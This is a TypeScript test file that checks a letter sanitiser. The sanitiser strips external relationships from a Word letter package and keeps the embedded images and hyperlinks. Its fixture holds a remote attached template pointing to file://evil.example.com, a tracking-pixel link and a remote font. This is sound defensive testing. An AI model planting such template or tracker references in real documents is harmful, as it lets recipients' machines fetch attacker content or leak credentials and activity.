// Letters keep no external relationships (issue: "Show letter" opened a document that could fetch a remote
// template; linked pictures and fonts likewise). A real letter package with an attached template, a linked
// picture, a remote font, an embedded picture and a hyperlink: the .docx built from it keeps the embedded
// picture and the hyperlink, and nothing that Word would fetch; what was stripped is listed.
import { unzipSync, strFromU8 } from 'fflate';
import { expect, test } from 'vitest';
import { letterDocx, mergedDocx } from '../../src/domain/docx';
import { externalRelationships, sanitizeLetter } from '../../src/domain/letterSafety';
import { parseLetter } from '../../src/domain/mergeOoxml';
import type { RenderedLetter } from '../../src/domain/mergeRender';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

function picture(attr: string) {
  return `<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attr}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
}

const letter = `<?xml version="1.0" standalone="yes"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">
<pkg:part pkg:name="/_rels/.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/><Relationship Id="rId3" Type="${REL}/image" Target="https://tracker.example.com/pixel.png" TargetMode="External"/><Relationship Id="rId4" Type="${REL}/image" Target="media/image1.png"/><Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://www.example.com/" TargetMode="External"/><Relationship Id="rId6" Type="${REL}/fontTable" Target="fontTable.xml"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/_rels/settings.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file://evil.example.com/share/Normal.dotm" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/_rels/fontTable.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/font" Target="https://fonts.example.com/remote.odttf" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/settings.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"><pkg:xmlData><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="708"/></w:settings></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/fontTable.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml"><pkg:xmlData><w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:font w:name="Remote"><w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font></w:fonts></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/media/image1.png" pkg:contentType="image/png"><pkg:binaryData>${PNG}</pkg:binaryData></pkg:part>
<pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><pkg:xmlData><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><w:body><w:p><w:r><w:t>Gentile cliente,</w:t></w:r></w:p><w:p>${picture('r:link="rId3"')}${picture('r:embed="rId4"')}<w:hyperlink r:id="rId5"><w:r><w:t>sito</w:t></w:r></w:hyperlink></w:p><w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document></pkg:xmlData></pkg:part>
</pkg:package>`;

const strippedList = [
  { part: '/word/document.xml', id: 'rId3', kind: 'image', target: 'https://tracker.example.com/pixel.png' },
  {
    part: '/word/settings.xml',
    id: 'rId1',
    kind: 'attachedTemplate',
    target: 'file://evil.example.com/share/Normal.dotm',
  },
  { part: '/word/fontTable.xml', id: 'rId1', kind: 'font', target: 'https://fonts.example.com/remote.odttf' },
];

function checkDocx(docx: Uint8Array) {
  const files = unzipSync(docx);
  const text = Object.fromEntries(
    Object.entries(files)
      .filter(([k]) => k.endsWith('.xml') || k.endsWith('.rels'))
      .map(([k, v]) => [k, strFromU8(v)]),
  );
  const external = Object.values(text).flatMap((x) =>
    [...x.matchAll(/<Relationship\b[^>]*TargetMode="External"[^>]*\/>/g)].map((m) => m[0]),
  );
  expect(external).toHaveLength(1);
  expect(external[0]).toContain('/hyperlink');
  expect(text['word/settings.xml']).not.toContain('attachedTemplate');
  expect(text['word/settings.xml']).toContain('<w:defaultTabStop w:val="708"/>');
  expect(text['word/document.xml']).not.toContain('r:link=');
  expect(text['word/document.xml']).toContain('r:embed="rId4"');
  expect(text['word/document.xml']).toContain('<w:hyperlink r:id="rId5">');
  expect(text['word/fontTable.xml']).not.toContain('r:id="rId1"');
  expect(Object.values(text).join('')).not.toMatch(/evil\.example|tracker\.example|fonts\.example/);
  expect(files['word/media/image1.png']).toBeDefined();
}

test('a letter with an attached template, a linked picture and a remote font opens as a .docx without them; embedded picture and hyperlink kept', () => {
  expect(externalRelationships(letter)).toEqual(strippedList);
  checkDocx(letterDocx(letter));
  const pkg = parseLetter(letter);
  const rendered = (lineNo: number) =>
    ({
      segmentNo: 'SEG00001',
      lineNo,
      contactNo: `CT0000${lineNo}`,
      languageCode: 'ITA',
      locale: 'it-IT',
      tag: `segments-letter-${lineNo}`,
      body: pkg.body,
      letter: { pkg },
    }) as unknown as RenderedLetter;
  checkDocx(mergedDocx([rendered(1), rendered(2)], { author: 'Anna' }));
});

test('a letter as stored or packaged: sanitised flat OPC, with the list the merge check shows; a clean letter unchanged', () => {
  const { ooxml, stripped } = sanitizeLetter(letter);
  expect(stripped).toEqual(strippedList);
  expect(externalRelationships(ooxml)).toEqual([]);
  expect(ooxml).not.toMatch(/evil\.example|tracker\.example|fonts\.example/);
  checkDocx(letterDocx(ooxml));
  expect(sanitizeLetter(ooxml)).toEqual({ ooxml, stripped: [] });
  expect(sanitizeLetter('<w:p><w:r><w:t>Hi</w:t></w:r></w:p>')).toEqual({
    ooxml: '<w:p><w:r><w:t>Hi</w:t></w:r></w:p>',
    stripped: [],
  });
});
